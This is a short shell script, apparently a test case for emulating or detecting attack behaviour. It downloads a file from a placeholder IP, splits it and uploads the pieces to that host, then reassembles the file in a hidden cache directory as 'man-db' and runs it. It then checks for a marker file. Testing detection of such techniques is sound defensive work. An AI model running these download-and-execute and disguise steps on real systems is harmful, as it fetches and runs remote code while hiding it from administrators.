#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/cache/.man && cd /var/cache/.man
curl -s -o whole http://203.0.113.10/programs/marker
split -n 5 -d whole p. && rm whole
for n in 0 1 2 3 4; do curl -s -T p.0$n http://203.0.113.10:8080/p$n >/dev/null; done
cat p.* >man-db && chmod 700 man-db && ./man-db
test -e /tmp/reached
took_place
